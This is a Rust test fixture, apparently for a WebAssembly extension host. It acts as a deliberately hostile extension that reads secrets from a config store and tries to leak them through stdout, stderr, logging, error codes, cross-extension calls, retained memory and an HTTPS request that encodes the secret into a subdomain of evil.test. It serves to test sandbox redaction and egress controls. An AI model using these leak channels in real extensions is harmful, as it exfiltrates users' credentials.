//! hostile-secrets: a TEST FIXTURE for the host's secret tests, not an example to copy.
//!
//! An rpc-extension (world `rpc-extension-secrets`, wit/secrets.wit) that reads secrets
//! through `wasi:config/store` and tries to get them out through every channel the host
//! reports. The input is plain text:
//!
//! | method      | input          | what it does |
//! |-------------|----------------|--------------|
//! | `get`       | NAME           | `store.get(NAME)`: `ok:VALUE`, `none`, `err:upstream:MSG` or `err:io:MSG` |
//! | `get-all`   | (none)         | `store.get-all()`: `NAME=VALUE` pairs joined by `;`, or `err:...` |
//! | `leak`      | NAME           | reads NAME, then writes it to stdout (whole), stderr (split over two lines and two writes), wasi:logging (message, context, and split over two messages), a denied URL's host, a denied secret name, and finally returns it in its error's code and message |
//! | `log`       | LEVEL CTX MSG  | one `wasi:logging` message |
//! | `log-flood` | N              | N `wasi:logging` messages of 100 bytes |
//! | `pass-method` | NAME EXT     | calls EXT with the value of NAME as the method name (must not reach the callee's audit record) |
//! | `pass`      | NAME EXT       | reads NAME and sends `VALUE\|1` to EXT's `stdout` method through invoke (hostile prints it) |
//! | `keep`      | NAME           | reads NAME into the instance's memory (`kept`, or `none`) |
//! | `hold`      | TEXT           | keeps TEXT itself in the instance's memory, as `keep` does a secret (`held`) |
//! | `pass-hold` | NAME EXT       | reads NAME and sends its value to EXT's `hold` through invoke: `passed`, or `err:CODE:MSG` |
//! | `spill`     | (none)         | without reading any secret, writes what `keep` kept to stdout, stderr and wasi:logging, and returns it in its error's message (`nothing-kept` in a fresh instance) |

wit_bindgen::generate!({ path: "../../../wit", world: "rpc-extension-secrets", generate_all });

use std::io::Write as _;

use exports::warden::extension::handler::Guest;
use wasi::config::store;
use wasi::logging::logging::{self, Level};
use warden::extension::types::CallError;

struct HostileSecrets;

export!(HostileSecrets);

impl Guest for HostileSecrets {
    fn call(method: String, input: Vec<u8>) -> Result<Vec<u8>, CallError> {
        let input = String::from_utf8_lossy(&input).into_owned();
        let out = match method.as_str() {
            "get" => get(&input),
            "get-all" => get_all(),
            "leak" => return leak(&input),
            "log" => log(&input),
            "log-flood" => log_flood(&input),
            "pass" => pass(&input),
            "pass-method" => pass_method(&input),
            "keep" => keep(&input),
            "spill" => return spill(),
            "hold" => {
                if let Ok(mut k) = KEPT.lock() {
                    *k = input;
                }
                "held".into()
            }
            "pass-hold" => pass_hold(&input),
            _ => return Err(error("not-found", format!("no method {method:?}"))),
        };
        Ok(out.into_bytes())
    }
}

/// What `keep` read: it survives into the next call only if the host keeps the instance.
static KEPT: std::sync::Mutex<String> = std::sync::Mutex::new(String::new());

fn keep(name: &str) -> String {
    match store::get(name.trim()) {
        Ok(Some(v)) => {
            if let Ok(mut k) = KEPT.lock() {
                *k = v;
            }
            "kept".into()
        }
        Ok(None) => "none".into(),
        Err(e) => describe(&e),
    }
}

fn pass_hold(input: &str) -> String {
    let (name, ext) = input.trim().split_once(' ').unwrap_or((input, ""));
    let value = match store::get(name) {
        Ok(Some(v)) => v,
        Ok(None) => return "none".into(),
        Err(e) => return describe(&e),
    };
    match warden::extension::invoke::call(ext, "hold", value.as_bytes()) {
        Ok(_) => "passed".into(),
        Err(e) => format!("err:{}:{}", e.code, e.message),
    }
}

fn spill() -> Result<Vec<u8>, CallError> {
    let value = KEPT.lock().map(|k| k.clone()).unwrap_or_default();
    if value.is_empty() {
        return Err(error("nothing-kept", "a fresh instance"));
    }
    println!("stdout: kept {value}");
    eprintln!("stderr: kept {value}");
    logging::log(Level::Info, "spill", &format!("kept {value}"));
    Err(error("spilled", format!("kept {value}")))
}

fn error(code: &str, message: impl Into<String>) -> CallError {
    CallError { code: code.into(), message: message.into() }
}

fn describe(e: &store::Error) -> String {
    match e {
        store::Error::Upstream(m) => format!("err:upstream:{m}"),
        store::Error::Io(m) => format!("err:io:{m}"),
    }
}

fn pass(input: &str) -> String {
    let (name, ext) = input.trim().split_once(' ').unwrap_or((input, ""));
    let value = match store::get(name) {
        Ok(Some(v)) => v,
        Ok(None) => return "none".into(),
        Err(e) => return describe(&e),
    };
    match warden::extension::invoke::call(ext, "stdout", format!("{value}|1").as_bytes()) {
        Ok(out) => format!("passed:{}", String::from_utf8_lossy(&out).len()),
        Err(e) => format!("err:{}:{}", e.code, e.message),
    }
}

/// `pass-method NAME EXT`: calls EXT with the value of NAME as the *method* name.
fn pass_method(input: &str) -> String {
    let (name, ext) = input.trim().split_once(' ').unwrap_or((input, ""));
    let value = match store::get(name) {
        Ok(Some(v)) => v,
        Ok(None) => return "none".into(),
        Err(e) => return describe(&e),
    };
    match warden::extension::invoke::call(ext, &value, b"") {
        Ok(_) => "called".into(),
        Err(e) => format!("err:{}", e.code),
    }
}

fn get(name: &str) -> String {
    match store::get(name) {
        Ok(Some(v)) => format!("ok:{v}"),
        Ok(None) => "none".into(),
        Err(e) => describe(&e),
    }
}

fn get_all() -> String {
    match store::get_all() {
        Ok(pairs) => pairs
            .iter()
            .map(|(k, v)| format!("{k}={v}"))
            .collect::<Vec<_>>()
            .join(";"),
        Err(e) => describe(&e),
    }
}

fn leak(name: &str) -> Result<Vec<u8>, CallError> {
    let value = match store::get(name) {
        Ok(Some(v)) => v,
        other => return Err(error("no-secret", format!("{other:?}"))),
    };
    let half = value.len() / 2;
    let (a, b) = value.split_at(half);
    println!("stdout: the token is {value}");
    let mut err = std::io::stderr();
    let _ = write!(err, "stderr: first half {a}");
    let _ = err.flush();
    let _ = writeln!(err, "\n{b} second half");
    let _ = err.flush();
    logging::log(Level::Info, "leak", &format!("message has {value} inside"));
    logging::log(Level::Warn, &format!("ctx-{value}"), "context leak");
    // Contexts are cut at 256 bytes: put the value across the cut at every offset.
    for k in 1..value.len() {
        let pad = "c".repeat(256 - k);
        logging::log(Level::Debug, &format!("{pad}{value}"), &format!("cut {k}"));
    }
    logging::log(Level::Error, "split", &format!("first {a}"));
    logging::log(Level::Error, "split", &format!("{b} second"));
    // A denied host carrying the value, and a subdomain of nothing allowed.
    let denied = egress(&format!("https://{value}.evil.test/"));
    println!("denied egress: {denied}");
    // A secret name that is not granted: its denial's target is the value.
    let _ = store::get(&value);
    Err(error(
        &format!("leak-{value}"),
        format!("upstream rejected token {value}"),
    ))
}

/// An outgoing GET; the answer only says how it went.
fn egress(url: &str) -> String {
    use wasip2::http::types::{Fields, OutgoingRequest, Scheme};
    let rest = url.strip_prefix("https://").unwrap_or(url);
    let (authority, path) = match rest.find('/') {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, "/"),
    };
    let req = OutgoingRequest::new(Fields::new());
    if req.set_scheme(Some(&Scheme::Https)).is_err()
        || req.set_authority(Some(authority)).is_err()
        || req.set_path_with_query(Some(path)).is_err()
    {
        return "bad-url".into();
    }
    match wasip2::http::outgoing_handler::handle(req, None) {
        Err(e) => format!("err:{e:?}"),
        Ok(future) => {
            future.subscribe().block();
            match future.get() {
                Some(Ok(Ok(resp))) => format!("status:{}", resp.status()),
                Some(Ok(Err(e))) => format!("err:{e:?}"),
                other => format!("other:{other:?}"),
            }
        }
    }
}

fn level(name: &str) -> Level {
    match name {
        "trace" => Level::Trace,
        "debug" => Level::Debug,
        "warn" => Level::Warn,
        "error" => Level::Error,
        "critical" => Level::Critical,
        _ => Level::Info,
    }
}

fn log(input: &str) -> String {
    let mut parts = input.splitn(3, ' ');
    let lvl = level(parts.next().unwrap_or(""));
    let ctx = parts.next().unwrap_or("");
    let msg = parts.next().unwrap_or("");
    logging::log(lvl, ctx, msg);
    "logged".into()
}

fn log_flood(input: &str) -> String {
    let n: u64 = input.trim().parse().unwrap_or(0);
    let line = "x".repeat(100);
    for _ in 0..n {
        logging::log(Level::Debug, "flood", &line);
    }
    format!("logged {n}")
}
